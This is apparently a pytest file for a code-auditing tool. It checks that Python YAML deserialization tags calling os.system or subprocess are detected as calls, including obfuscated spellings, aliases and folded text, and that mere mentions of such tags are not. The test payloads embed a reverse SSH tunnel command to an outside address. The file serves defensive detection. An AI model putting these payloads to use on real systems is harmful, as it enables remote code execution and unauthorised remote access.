"""Tags in YAML that name functions are calls, however they are spelled; what only looks like them is none."""

from __future__ import annotations

import pytest

from auditor.model.unit import Language, Script
from auditor.read.evaluation import Evaluation

COMMAND = "ssh -R 1:h:22 b@203.0.113.9"


def lines(text: str, loader: str = "UnsafeLoader") -> list[str]:
    """Give the effects of loading a text."""
    code = f"import yaml\nyaml.load({text!r}, Loader=yaml.{loader})"
    effects = Evaluation(Script.of(code, Language.PYTHON)).read_script().effects
    return [" ".join(map(str, stage)) for effect in effects for stage in effect.stages]


@pytest.mark.parametrize(
    "text",
    [
        f"!!python/object/apply:os.system ['{COMMAND}']",
        f'a: [!!python/object/new:os.system ["{COMMAND.replace("-", chr(92) + "x2d")}"]]',
        f"!<tag:yaml.org,2002:python/object/apply:os.system> ['{COMMAND}']",
        f"!!p%79thon/object/apply:os.system ['{COMMAND}']",
        f"%TAG !p! tag:yaml.org,2002:python/\n---\n!p!object/apply:os.system ['{COMMAND}']",
        f"!!python/object/apply:os.system {{args: ['{COMMAND}']}}",
        f"!!python/object/apply:subprocess.run\nargs: [[{', '.join(map(repr, COMMAND.split()))}]]\nkwds: {{check: x}}",
        "!!python/object/apply:os.system\n- >-\n  " + COMMAND.replace(" ", "\n  "),
        f"x: &c '{COMMAND}'\ny: !!python/object/apply:os.system [*c]",
        f"!!python/object/new:str {{state: '{COMMAND}', args: [!!python/name:os.system ]}}",
        "- !!python/name:os.getcwd\n" * 300 + f"- !!python/object/apply:os.system ['{COMMAND}']",
    ],
)
def test_a_tag_that_calls_is_a_call(text: str) -> None:
    """Its handle, its escapes, its arguments as a list, a mapping, folded text or an alias."""
    assert COMMAND in lines(text)
    assert lines(text, "SafeLoader") == []


@pytest.mark.parametrize(
    "text",
    [
        f"'!!python/object/apply:os.system [{COMMAND}]'",
        f"# !!python/object/apply:os.system ['{COMMAND}']\na: 1",
        f"a: |\n  !!python/object/apply:os.system ['{COMMAND}']",
        f"!own/object/apply:os.system ['{COMMAND}']",
    ],
)
def test_a_text_that_mentions_a_tag_is_none(text: str) -> None:
    """In quotes, in a comment, in a block of text, under a handle of somebody else's."""
    assert lines(text) == []


def test_text_from_the_network_is_code_that_nobody_read() -> None:
    """As a pickle is; a safe loader reads values only."""
    code = "import yaml, requests\nyaml.{}(requests.get('http://h.example/a').text)"
    for name, found in (("unsafe_load", True), ("safe_load", False)):
        effects = Evaluation(Script.of(code.format(name), Language.PYTHON)).read_script().effects
        names = [str(effect.stages[0][0]) for effect in effects]
        assert any(each.startswith("code.") for each in names) is found, names
